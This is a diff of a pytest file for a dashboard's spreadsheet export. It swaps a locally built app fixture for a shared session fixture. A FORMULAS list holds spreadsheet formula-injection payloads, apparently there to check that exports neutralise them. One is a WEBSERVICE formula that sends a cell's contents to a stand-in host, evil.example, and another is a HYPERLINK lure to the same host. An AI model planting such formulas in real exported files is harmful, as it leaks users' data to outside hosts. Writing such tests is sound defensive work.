@@ -10,17 +10,14 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from dashboard.settings import Settings
 
 FORMULAS = ['=HYPERLINK("http://evil.example/","Open the full data")', '=WEBSERVICE("http://evil.example/?"&A2)',
             "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
 
 
 @pytest.fixture(scope="module")
-def app(small_release):
-    from dashboard.app import create_app
-
-    return create_app(settings=Settings(mode="public", database_url=f"sqlite:///{small_release / 'public.db'}"))
+def app(public_app):
+    return public_app  # built once per session (tests/conftest.py); tests here only send it requests
 
 
 def _cells(book):
